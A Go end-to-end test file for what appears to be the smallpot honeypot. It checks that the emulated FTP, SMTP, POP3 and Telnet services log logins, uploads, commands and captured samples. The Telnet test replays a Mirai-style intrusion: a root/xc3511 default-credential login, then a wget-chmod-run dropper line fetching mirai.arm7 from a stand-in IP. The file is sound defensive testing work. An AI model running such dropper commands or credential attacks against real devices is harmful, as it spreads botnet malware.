package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/smallpot/smallpot/internal/event"
	"github.com/smallpot/smallpot/internal/service"
	"github.com/smallpot/smallpot/internal/service/servicetest"
)

// onlyServices returns a config enabling just the named services, each
// with its default ports.
func onlyServices(names ...string) string {
	var b strings.Builder
	b.WriteString("sensor: e2e\npipeline:\n  flush_interval: 50ms\nservices:\n")
	for _, m := range service.Modules() {
		on := false
		for _, n := range names {
			on = on || n == m.Name
		}
		fmt.Fprintf(&b, "  %s:\n    enabled: %v\n", m.Name, on)
	}
	return b.String()
}

func needTool(t *testing.T, tool, pkg string) {
	t.Helper()
	if _, err := exec.LookPath(tool); err != nil {
		t.Skipf("%s not installed (Debian package %s)", tool, pkg)
	}
}

// runTool runs a client, bounded in time beyond its own timeouts.
func runTool(name string, args ...string) ([]byte, error) {
	return servicetest.Run(2*time.Minute, name, args...)
}

func sha256Hex(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// stoppedEvents stops the server (flushing everything) and returns its
// stored events of kind k.
func stoppedEvents(t *testing.T, s *server, k event.Kind) []event.Event {
	t.Helper()
	s.stop(t)
	return jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-kind", string(k)))
}

func assertSample(t *testing.T, s *server, want []byte, what string) {
	t.Helper()
	sha := sha256Hex(want)
	got, err := os.ReadFile(filepath.Join(s.data, "samples", sha))
	if err != nil {
		t.Errorf("%s: no sample %s in the store: %v", what, sha, err)
		return
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s: sample %s holds other bytes", what, sha)
	}
	if out := string(smallpotCLI(t, "samples", "show", "-data", s.data, sha)); !strings.Contains(out, sha) {
		t.Errorf("%s: samples show does not know %s", what, sha)
	}
}

func TestEndToEndFTPWithCurl(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end test builds and runs the binary")
	}
	needTool(t, "curl", "curl")
	s := startServer(t, onlyServices("ftp"))
	upload := filepath.Join(t.TempDir(), "payload.exe")
	content := append([]byte("MZ\x90\x00"), bytes.Repeat([]byte("smallpot-ftp-e2e "), 500)...)
	if err := os.WriteFile(upload, content, 0o644); err != nil {
		t.Fatal(err)
	}
	url := "ftp://" + s.addr(21) + "/"
	out, err := runTool("curl", "-sS", "--max-time", "20", "--ftp-pasv", "-u", "anonymous:worm@", url)
	if err != nil {
		t.Fatalf("curl LIST: %v\n%s", err, out)
	}
	if !bytes.Contains(out, []byte("<DIR>")) && !bytes.Contains(out, []byte("drw")) {
		t.Errorf("LIST output looks empty:\n%s", out)
	}
	out, err = runTool("curl", "-sS", "--max-time", "20", "--ftp-pasv", "-u", "anonymous:worm@", "-T", upload, url)
	if err != nil {
		t.Fatalf("curl upload: %v\n%s", err, out)
	}
	logins := stoppedEvents(t, s, event.KindLogin)
	if len(logins) < 2 || logins[0].Detail.(*event.Login).User != "anonymous" || logins[0].Detail.(*event.Login).Password != "worm@" {
		t.Errorf("login events %+v, want anonymous/worm@ twice", logins)
	}
	ups := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-kind", "upload"))
	if len(ups) != 1 || ups[0].Detail.(*event.Upload).SHA256 != sha256Hex(content) || ups[0].Detail.(*event.Upload).Name != "payload.exe" {
		t.Errorf("upload events %+v, want one for payload.exe with its SHA-256", ups)
	}
	assertSample(t, s, content, "ftp upload")
}

func TestEndToEndSMTPWithSwaksAndCurl(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end test builds and runs the binary")
	}
	needTool(t, "swaks", "swaks")
	needTool(t, "curl", "curl")
	s := startServer(t, onlyServices("smtp"))
	dir := t.TempDir()
	attach := append([]byte("MZ\x90\x00readme"), bytes.Repeat([]byte{0xde, 0xad, 0xbe, 0xef}, 700)...)
	ap := filepath.Join(dir, "readme.exe")
	if err := os.WriteFile(ap, attach, 0o644); err != nil {
		t.Fatal(err)
	}
	host, port, _ := strings.Cut(s.addr(25), ":")
	out, err := runTool("swaks", "--server", host, "--port", port, "--timeout", "20",
		"--from", "nimda@example.net", "--to", "victim@example.org", "--attach", "@"+ap)
	if err != nil {
		t.Fatalf("swaks: %v\n%s", err, out)
	}

	// curl sends a prepared MIME message with a base64 attachment.
	second := []byte("second attachment, sent by curl\n")
	msg := "From: a@example.net\r\nTo: b@example.org\r\nSubject: e2e\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"XX\"\r\n\r\n--XX\r\nContent-Type: text/plain\r\n\r\nhello\r\n" +
		"--XX\r\nContent-Type: application/octet-stream; name=\"note.bin\"\r\nContent-Transfer-Encoding: base64\r\n" +
		"Content-Disposition: attachment; filename=\"note.bin\"\r\n\r\n" + base64Lines(second) + "--XX--\r\n"
	mp := filepath.Join(dir, "msg.eml")
	if err := os.WriteFile(mp, []byte(msg), 0o644); err != nil {
		t.Fatal(err)
	}
	out, err = runTool("curl", "-sS", "--max-time", "20", "smtp://"+s.addr(25), "--mail-from", "a@example.net",
		"--mail-rcpt", "b@example.org", "-T", mp)
	if err != nil {
		t.Fatalf("curl smtp: %v\n%s", err, out)
	}
	ups := stoppedEvents(t, s, event.KindUpload)
	names := map[string]string{}
	for _, e := range ups {
		u := e.Detail.(*event.Upload)
		names[u.Name] = u.SHA256
	}
	if names["readme.exe"] != sha256Hex(attach) || names["note.bin"] != sha256Hex(second) {
		t.Errorf("attachment uploads %v, want readme.exe and note.bin with their SHA-256", names)
	}
	assertSample(t, s, attach, "swaks attachment")
	assertSample(t, s, second, "curl attachment")
	if mails := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-kind", "mail")); len(mails) != 2 {
		t.Errorf("got %d mail events, want 2", len(mails))
	}
}

func base64Lines(b []byte) string {
	enc := base64Encode(b)
	var out strings.Builder
	for len(enc) > 76 {
		out.WriteString(enc[:76] + "\r\n")
		enc = enc[76:]
	}
	out.WriteString(enc + "\r\n")
	return out.String()
}

func TestEndToEndPOP3WithCurl(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end test builds and runs the binary")
	}
	needTool(t, "curl", "curl")
	s := startServer(t, onlyServices("pop3"))
	list, err := runTool("curl", "-sS", "--max-time", "20", "-u", "administrator:password", "pop3://"+s.addr(110)+"/")
	if err != nil {
		t.Fatalf("curl pop3 LIST: %v\n%s", err, list)
	}
	if !bytes.HasPrefix(list, []byte("1 ")) {
		t.Errorf("LIST answer %q, want a scan listing", list)
	}
	msg, err := runTool("curl", "-sS", "--max-time", "20", "-u", "administrator:password", "pop3://"+s.addr(110)+"/1")
	if err != nil || !bytes.Contains(msg, []byte("Subject:")) {
		t.Fatalf("curl pop3 RETR: %v\n%s", err, msg)
	}
	// curl prefers the NTLM that Exchange offers: the password is recorded
	// as the client's NTLM response, in hashcat's form.
	logins := stoppedEvents(t, s, event.KindLogin)
	if len(logins) != 2 {
		t.Fatalf("got %d login events, want 2", len(logins))
	}
	for _, e := range logins {
		l := e.Detail.(*event.Login)
		if !strings.Contains(strings.ToLower(l.User), "administrator") || !l.Success || l.Method != "ntlm" || l.Password == "" {
			t.Errorf("login %+v, want a successful NTLM login of administrator with its response recorded", l)
		}
	}
	cmds := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-kind", "command", "-service", "pop3"))
	var lines []string
	for _, e := range cmds {
		lines = append(lines, e.Detail.(*event.Command).Line)
	}
	if all := strings.Join(lines, "|"); !strings.Contains(all, "LIST") || !strings.Contains(all, "RETR 1") {
		t.Errorf("pop3 commands %q lack LIST and RETR 1", all)
	}
}

func base64Encode(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// readUntil reads from c until want appears (or 10s pass).
func readUntil(t *testing.T, c net.Conn, want string) string {
	t.Helper()
	_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
	var got []byte
	buf := make([]byte, 1024)
	for !bytes.Contains(got, []byte(want)) {
		n, err := c.Read(buf)
		got = append(got, buf[:n]...)
		if err != nil {
			t.Fatalf("waiting for %q: %v; got %q", want, err, got)
		}
	}
	return string(got)
}

func TestEndToEndTelnetBusyBoxDropper(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end test builds and runs the binary")
	}
	s := startServer(t, "profile: linux-iot\n"+strings.TrimPrefix(onlyServices("telnet"), "sensor: e2e\n"))
	c, err := net.DialTimeout("tcp", s.addr(23), 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	readUntil(t, c, "login: ")
	fmt.Fprintf(c, "root\r\n")
	readUntil(t, c, "Password: ")
	fmt.Fprintf(c, "xc3511\r\n")
	readUntil(t, c, "# ")
	fmt.Fprintf(c, "enable\r\n")
	readUntil(t, c, "# ")
	fmt.Fprintf(c, "cd /tmp; wget http://198.51.100.9/bins/mirai.arm7 -O m; chmod 777 m; ./m telnet.arm7; /bin/busybox ECCHI\r\n")
	out := readUntil(t, c, "ECCHI: applet not found")
	_ = out
	fmt.Fprintf(c, "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01' > .d; chmod +x .d\r\n")
	readUntil(t, c, "# ")
	c.Close()

	logins := stoppedEvents(t, s, event.KindLogin)
	if len(logins) != 1 || logins[0].Detail.(*event.Login).User != "root" || logins[0].Detail.(*event.Login).Password != "xc3511" || !logins[0].Detail.(*event.Login).Success {
		t.Errorf("login events %+v, want root/xc3511 accepted", logins)
	}
	dls := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-kind", "download"))
	if len(dls) != 1 || dls[0].Detail.(*event.Download).URL != "http://198.51.100.9/bins/mirai.arm7" {
		t.Errorf("download intents %+v, want the wget URL", dls)
	}
	cmds := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-kind", "command", "-service", "telnet"))
	found := false
	for _, e := range cmds {
		found = found || strings.Contains(e.Detail.(*event.Command).Line, "/bin/busybox ECCHI")
	}
	if !found {
		t.Errorf("no command event for the dropper line among %d", len(cmds))
	}
	assertSample(t, s, []byte("\x7fELF\x01\x01\x01"), "echo dropper")
}

func TestEndToEndFTPWithLftp(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end test builds and runs the binary")
	}
	needTool(t, "lftp", "lftp")
	s := startServer(t, onlyServices("ftp"))
	dir := t.TempDir()
	content := bytes.Repeat([]byte("lftp-upload-"), 3000)
	if err := os.WriteFile(filepath.Join(dir, "drop.bin"), content, 0o644); err != nil {
		t.Fatal(err)
	}
	host, port, _ := strings.Cut(s.addr(21), ":")
	script := fmt.Sprintf("set net:max-retries 1; set net:timeout 10; set ftp:passive-mode on; open -u anonymous,guest@ -p %s %s; ls; lcd %s; put drop.bin; ls; bye", port, host, dir)
	out, err := runTool("lftp", "-c", script)
	if err != nil {
		t.Fatalf("lftp: %v\n%s", err, out)
	}
	if !bytes.Contains(out, []byte("drop.bin")) {
		t.Errorf("the second listing does not show the upload:\n%s", out)
	}
	ups := stoppedEvents(t, s, event.KindUpload)
	if len(ups) != 1 || ups[0].Detail.(*event.Upload).SHA256 != sha256Hex(content) {
		t.Errorf("upload events %+v, want one with the file's SHA-256", ups)
	}
	assertSample(t, s, content, "lftp upload")
}
